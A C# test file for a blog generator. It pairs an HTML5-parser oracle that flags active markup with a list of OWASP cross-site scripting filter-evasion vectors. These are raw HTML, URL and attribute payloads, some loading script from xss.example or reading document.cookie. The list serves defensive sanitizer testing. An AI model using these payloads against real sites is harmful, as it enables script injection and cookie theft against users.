using System;
using System.Collections.Generic;
using System.Linq;
using AngleSharp.Html.Parser;

namespace Blog.Generator.Tests.Hostile;

/// <summary>
/// Finds active markup in HTML as a browser would read it, with AngleSharp's HTML5 parser (character references of
/// every kind decoded, malformed tags repaired as browsers repair them), independently of the generator's own check:
/// anything that can run script, load or embed another document, submit a form, restyle the page or change its base.
/// </summary>
internal static class ActiveMarkupOracle
{
    private static readonly HashSet<string> ActiveElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "textarea",
        "select", "link", "meta", "base", "svg", "math", "template", "video", "audio", "source", "track", "marquee",
        "bgsound", "isindex", "keygen", "param", "portal", "noscript", "noembed", "xmp", "plaintext",
    };

    private static readonly HashSet<string> UrlAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "href", "src", "action", "formaction", "background", "lowsrc", "dynsrc", "data", "codebase", "xlink:href",
        "poster", "srcset", "cite", "longdesc", "usemap", "ping", "manifest", "content",
    };

    private static readonly HtmlParser Parser = new();

    /// <summary>Each piece of active markup in <paramref name="html"/>, described; empty when there is none.</summary>
    public static List<string> Find(string html)
    {
        var found = new List<string>();
        var document = Parser.ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            var name = element.LocalName;
            if (ActiveElements.Contains(name))
            {
                found.Add("<" + name + ">");
            }

            if (name == "input" && !string.Equals(element.GetAttribute("type"), "checkbox", StringComparison.OrdinalIgnoreCase))
            {
                found.Add("<input type=" + element.GetAttribute("type") + ">");
            }

            foreach (var attribute in element.Attributes)
            {
                var attributeName = attribute.Name;
                if (attributeName.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attributeName is "srcdoc" or "formaction")
                {
                    found.Add(name + " " + attributeName + "=" + attribute.Value);
                }
                else if (attributeName == "style" && !IsLayoutOnly(attribute.Value))
                {
                    found.Add(name + " style=" + attribute.Value);
                }
                else if (UrlAttributes.Contains(attributeName) && !IsSafeUrl(attribute.Value))
                {
                    found.Add(name + " " + attributeName + "=" + attribute.Value);
                }
            }
        }

        return found;
    }

    /// <summary>The only styles Markdown writes: a table cell's alignment, a column's width.</summary>
    private static bool IsLayoutOnly(string style)
    {
        var value = style.Trim().TrimEnd(';').Trim();
        return value is "text-align: left" or "text-align: center" or "text-align: right" or "text-align: justify" ||
            (value.StartsWith("width:", StringComparison.Ordinal) && value.EndsWith('%') && value[6..^1].Trim().All(c => char.IsAsciiDigit(c) || c == '.'));
    }

    /// <summary>A URL a browser would not run or render as a document: relative, a fragment, or http(s), mailto, tel.</summary>
    private static bool IsSafeUrl(string url)
    {
        var scheme = new string(url.Where(c => c > ' ' && c != '\u007F').TakeWhile(c => c is not (':' or '/' or '?' or '#')).ToArray());
        var colon = new string(url.Where(c => c > ' ' && c != '\u007F').ToArray()).IndexOf(':', StringComparison.Ordinal);
        return colon < 0 || colon != scheme.Length || scheme.ToLowerInvariant() is "http" or "https" or "mailto" or "tel";
    }
}

/// <summary>
/// Vectors from the OWASP XSS Filter Evasion Cheat Sheet, as raw HTML, as URLs and as attributes: the three things a
/// post can try to slip past raw HTML being off.
/// </summary>
internal static class XssVectors
{
    public static readonly string[] Html =
    [
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=//xss.example/.j>",
        "<iframe src=https://xss.example/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<svg/onload=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<object data=\"javascript:alert(1)\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ];

    public static readonly string[] Urls =
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
        "javascript://%0Aalert(1)",
        "java%0ascript:alert(1)",
    ];

    public static readonly string[] Attributes =
    [
        "onclick=\"alert(1)\"",
        "onmouseover=alert(1)",
        "style=\"background:url(javascript:alert(1))\"",
        "style=\"width: expression(alert(1))\"",
        "href=\"javascript:alert(1)\"",
        "src=\"javascript:alert(1)\"",
        "formaction=\"javascript:alert(1)\"",
        "srcdoc=\"<script>alert(1)</script>\"",
        "xlink:href=\"javascript:alert(1)\"",
        "onerror=\"alert(1)\" src=x",
    ];
}
